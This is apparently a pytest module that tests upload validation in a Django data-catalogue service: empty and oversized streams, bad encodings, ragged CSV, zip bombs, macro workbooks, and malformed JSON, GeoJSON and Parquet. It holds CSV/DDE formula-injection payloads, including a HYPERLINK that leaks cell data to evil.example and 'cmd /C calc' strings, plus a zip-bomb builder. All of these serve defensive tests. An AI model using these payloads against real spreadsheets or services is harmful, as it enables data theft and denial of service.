"""Hostile and broken uploads, through resource_version_upload and its check (the task).

Each ends in a clear error and leaves nothing half-written: a refused upload leaves no version
row and no files; an invalid version keeps its source file (for the publisher to see) but gets
no Parquet file and never becomes the resource's latest.
"""

import codecs
import io
import json
import zipfile
from collections.abc import Iterator
from pathlib import Path

import openpyxl
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from django.conf import settings
from django.test import TestCase

from interborough.catalogue import storage
from interborough.catalogue.models import Resource, ResourceVersion, VersionStatus
from interborough.catalogue.services import versions
from interborough.catalogue.services.versions import resource_create, resource_version_upload
from interborough.core.csv_export import csv_lines
from interborough.core.errors import ApplicationError
from tests.factories.catalogue import DatasetFactory

pytestmark = pytest.mark.django_db

GOOD = b"ward,count\nE05000001,12\nE05000002,7\n"
MB = 1024 * 1024


@pytest.fixture
def resource(publisher, organisation):
    """A resource whose version 1 is ready and is the latest."""
    dataset = DatasetFactory(publisher=organisation)
    resource = resource_create(by=publisher, dataset=dataset, name="Counts by ward")
    upload(publisher, resource, GOOD)
    return Resource.objects.get(pk=resource.pk)


def upload(by, resource, content: bytes, filename: str = "counts.csv") -> ResourceVersion:
    with TestCase.captureOnCommitCallbacks(execute=True):
        version = resource_version_upload(
            by=by, resource=resource, filename=filename, chunks=[content]
        )
    version.refresh_from_db()
    return version


def files_under(folder: Path) -> list[str]:
    return sorted(str(p.relative_to(folder)) for p in folder.rglob("*") if p.is_file())


def assert_invalid(resource, version, message: str, *, row: int | None = None, column=None):
    """Invalid, with a problem saying `message`; no Parquet, no scratch files; latest kept."""
    assert version.status == VersionStatus.INVALID
    assert version.problem_count >= 1
    problem = next((p for p in version.problems if message.lower() in p["message"].lower()), None)
    assert problem is not None, version.problems
    if row is not None:
        assert problem["row"] == row
    if column is not None:
        assert problem["column"] == column
    assert files_under(storage.version_dir(version)) == [storage.source_path(version).name]
    assert Resource.objects.get(pk=resource.pk).latest.number == 1


def assert_refused_leaving_nothing(resource):
    assert list(resource.versions.values_list("number", flat=True)) == [1]
    catalogue = Path(settings.MEDIA_ROOT) / "catalogue" / str(resource.pk)
    assert sorted(p.name for p in catalogue.iterdir()) == ["v1"]
    assert Resource.objects.get(pk=resource.pk).latest.number == 1


# --- refused at upload: nothing stored -----------------------------------------------------------


def test_upload_empty_file_is_refused_and_leaves_nothing(publisher, resource):
    with pytest.raises(ApplicationError, match="The file is empty"):
        resource_version_upload(by=publisher, resource=resource, filename="a.csv", chunks=[b""])

    assert_refused_leaving_nothing(resource)


class Endless:
    """A lazy 1 GB upload: chunks are made as they are read, and counted."""

    def __init__(self, total: int = 1024 * MB, chunk: int = MB) -> None:
        self.total, self.chunk, self.consumed = total, chunk, 0

    def __iter__(self) -> Iterator[bytes]:
        line = b"E05000001,12\n"
        block = b"ward,count\n" + line * (self.chunk // len(line))
        while self.consumed < self.total:
            piece = block[: self.chunk]
            self.consumed += len(piece)
            yield piece


def test_upload_1gb_stream_is_stopped_at_the_limit_and_leaves_nothing(
    publisher, resource, monkeypatch
):
    limit = 8 * MB  # the real limit is below 1 GB too (next test); a small one keeps this fast
    monkeypatch.setattr(versions, "MAX_UPLOAD_BYTES", limit)
    stream = Endless()

    with pytest.raises(ApplicationError, match="larger than the 8 MB limit"):
        resource_version_upload(by=publisher, resource=resource, filename="big.csv", chunks=stream)

    assert stream.consumed <= limit + stream.chunk  # read no further than the chunk past it
    assert stream.consumed < stream.total
    assert_refused_leaving_nothing(resource)


def test_upload_limit_is_below_1gb():
    assert versions.MAX_UPLOAD_BYTES < 1024 * MB


def test_upload_failing_stream_leaves_nothing(publisher, resource):
    def broken() -> Iterator[bytes]:
        yield GOOD
        raise OSError("connection reset by peer")

    with pytest.raises(OSError, match="connection reset"):
        resource_version_upload(by=publisher, resource=resource, filename="a.csv", chunks=broken())

    assert_refused_leaving_nothing(resource)


# --- CSV: encodings, line endings and shapes -----------------------------------------------------


@pytest.mark.parametrize(
    ("content", "encoding"),
    [
        (codecs.BOM_UTF16_LE + "name,price\nCafé,£5\n".encode("utf-16-le"), "utf-16"),
        ("name,price\nCafé,£5\n".encode("cp1252"), "cp1252"),
    ],
    ids=["utf16-bom", "windows-1252"],
)
def test_upload_other_encodings_are_read_correctly(publisher, resource, content, encoding):
    version = upload(publisher, resource, content)

    assert (version.status, version.encoding) == (VersionStatus.READY, encoding)
    rows = pq.read_table(storage.parquet_path(version)).to_pylist()
    assert rows == [{"name": "Café", "price": "£5"}]


def test_upload_mixed_line_endings_are_all_rows(publisher, resource):
    version = upload(publisher, resource, b"ward,count\r\nA,1\nB,2\rC,3\r\n")

    assert (version.status, version.rows) == (VersionStatus.READY, 3)


def test_upload_one_column_file_is_a_table(publisher, resource):
    version = upload(publisher, resource, b"ward\nCamden Town\nKentish Town\n")

    assert version.status == VersionStatus.READY
    assert [f["name"] for f in version.schema["fields"]] == ["ward"]


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x01\x00\x00\x00", "not look like text"),
        (bytes(range(128, 256)) * 50, "does not look like text"),
        (b"ward,count\nE05000001,1\x002\n", "NUL bytes"),
        (b"ward,Ward\nA,1\n", "both called"),
        (b"ward,,count\nA,1,2\n", "column 2 has no name"),
        ((",".join(f"c{i}" for i in range(100_000)) + "\n1\n").encode(), "the limit is 2000"),
    ],
    ids=["binary-junk", "high-bytes", "nul-byte", "duplicate-headers", "blank-header", "100k-cols"],
)
def test_upload_broken_csv_is_invalid_with_a_clear_message(publisher, resource, content, message):
    version = upload(publisher, resource, content)

    assert_invalid(resource, version, message, row=0)


def test_upload_ragged_rows_name_their_rows(publisher, resource):
    version = upload(publisher, resource, b"ward,count\nA,1\nB\nC,3,extra\n")

    assert_invalid(resource, version, "Row 3 has 1 value but the header has 2 columns", row=3)
    assert [p["row"] for p in version.problems] == [3, 4]


def test_upload_header_only_file_is_invalid(publisher, resource):
    version = upload(publisher, resource, b"ward,count\n")

    assert_invalid(resource, version, "no rows", row=0)


def test_upload_extremely_long_cell_is_invalid_naming_row_and_column(publisher, resource):
    version = upload(publisher, resource, b"ward,notes\nA," + b"x" * (4 * MB) + b"\n")

    assert_invalid(resource, version, 'Row 2, column "notes" holds 4,194,304 characters', row=0)


# --- formulas ------------------------------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your results")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!A0",
]


def test_upload_csv_formulas_are_stored_as_text_and_exported_safely(publisher, resource):
    text = io.StringIO()
    text.write("ward,note\n")
    for i, formula in enumerate(FORMULAS):
        text.write(f'W{i},"{formula.replace(chr(34), chr(34) * 2)}"\n')

    version = upload(publisher, resource, text.getvalue().encode())

    assert version.status == VersionStatus.READY
    assert version.schema["fields"][1]["type"] == "string"
    table = pq.read_table(storage.parquet_path(version))
    assert table.column("note").to_pylist() == FORMULAS  # kept exactly, never evaluated
    exported = "".join(csv_lines(table.column_names, [r.values() for r in table.to_pylist()]))
    for line in exported.splitlines()[1:]:
        assert line.split(",", 1)[1].lstrip('"').startswith("'")


def test_upload_xlsx_formula_cells_are_problems_with_row_and_column(publisher, resource):
    workbook = openpyxl.Workbook()
    workbook.active.append(["ward", "count"])
    workbook.active.append(["A", 1])
    workbook.active.append(["B", '=HYPERLINK("http://evil.example","x")'])
    out = io.BytesIO()
    workbook.save(out)

    version = upload(publisher, resource, out.getvalue(), "counts.xlsx")

    assert_invalid(resource, version, "formula", row=3, column="count")


# --- XLSX containers -----------------------------------------------------------------------------


def _workbook_zip(entries: dict[str, bytes], *, level: int = 9) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=level) as z:
        for name, data in entries.items():
            z.writestr(name, data)
    return out.getvalue()


def test_upload_xlsx_zip_bomb_is_refused_unopened(publisher, resource):
    row = b'<row><c t="inlineStr"><is><t>boom</t></is></c></row>'
    sheet = b"<worksheet><sheetData>" + row * (64 * MB // len(row)) + b"</sheetData></worksheet>"
    bomb = _workbook_zip({"xl/workbook.xml": b"<workbook/>", "xl/worksheets/sheet1.xml": sheet})
    assert len(bomb) < MB  # 64 MB of sheet XML

    version = upload(publisher, resource, bomb, "counts.xlsx")

    assert_invalid(resource, version, "zip bomb", row=0)


def test_upload_xlsx_with_too_many_parts_is_refused(publisher, resource):
    parts = {f"xl/media/image{i}.bin": b"" for i in range(10_001)}
    version = upload(
        publisher, resource, _workbook_zip({"xl/workbook.xml": b"", **parts}), "a.xlsx"
    )

    assert_invalid(resource, version, "too many parts", row=0)


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"PK\x03\x04" + b"\x00" * 200, "zip is damaged"),
        (_workbook_zip({"xl/vbaProject.bin": b"\x00", "xl/workbook.xml": b""}), "macros"),
        (_workbook_zip({"word/document.xml": b"<w/>"}), "not an Excel workbook"),
    ],
    ids=["damaged-zip", "macros", "word-document"],
)
def test_upload_broken_xlsx_is_invalid(publisher, resource, content, message):
    version = upload(publisher, resource, content, "counts.xlsx")

    assert_invalid(resource, version, message, row=0)


# --- JSON, GeoJSON, Parquet ----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b'{"rows": [{"ward": "A"}]}', "must be a list of objects"),
        (b'"just a string"', "must be a list of objects"),
        (b'[{"ward": "A"}, 7]', "item 2 of the list is a number"),
        (b'[{"ward": "A"},', "not valid JSON"),
        (b"[]", "empty"),
    ],
    ids=["object", "string", "not-objects", "truncated", "empty-list"],
)
def test_upload_json_that_is_not_rows_is_invalid(publisher, resource, content, message):
    version = upload(publisher, resource, content, "rows.json")

    assert_invalid(resource, version, message, row=0)


def test_upload_deeply_nested_json_says_so(publisher, resource):
    version = upload(publisher, resource, b"[" * 100_000 + b"]" * 100_000, "rows.json")

    assert_invalid(resource, version, "nested", row=0)


def test_upload_deeply_nested_json_is_invalid_not_a_crash(publisher, resource):
    version = upload(publisher, resource, b"[" * 100_000 + b"]" * 100_000, "rows.json")

    assert_invalid(resource, version, "nested too deeply", row=0)


def test_upload_geojson_with_invalid_geometry_names_the_feature_rows(publisher, resource):
    features = [
        {"type": "Feature", "properties": {"ward": "A"}, "geometry": {"type": "Point",
                                                                    "coordinates": [-0.1, 51.5]}},
        {"type": "Feature", "properties": {"ward": "B"}, "geometry": {"type": "Blob"}},
        {"type": "Feature", "properties": {"ward": "C"}, "geometry": {"type": "Polygon"}},
    ]  # fmt: skip
    content = json.dumps({"type": "FeatureCollection", "features": features}).encode()

    version = upload(publisher, resource, content, "wards.geojson")

    assert_invalid(resource, version, "geometry is not valid GeoJSON", row=3)
    assert [p["row"] for p in version.problems] == [3, 4]


def test_upload_geojson_that_is_not_a_feature_collection_is_invalid(publisher, resource):
    content = json.dumps({"type": "Point", "coordinates": [0, 51]}).encode()

    version = upload(publisher, resource, content, "wards.geojson")

    assert_invalid(resource, version, "must be a FeatureCollection", row=0)


@pytest.mark.parametrize("keep", [0.5, -3], ids=["half", "footer-cut"])
def test_upload_truncated_parquet_is_invalid(publisher, resource, tmp_path, keep):
    path = tmp_path / "t.parquet"
    pq.write_table(pa.table({"n": list(range(5000)), "ward": [f"W{i}" for i in range(5000)]}), path)
    whole = path.read_bytes()
    cut = whole[: int(len(whole) * keep)] if keep > 0 else whole[: int(keep)]

    version = upload(publisher, resource, cut, "counts.parquet")

    assert_invalid(resource, version, "Parquet file could not be read", row=0)
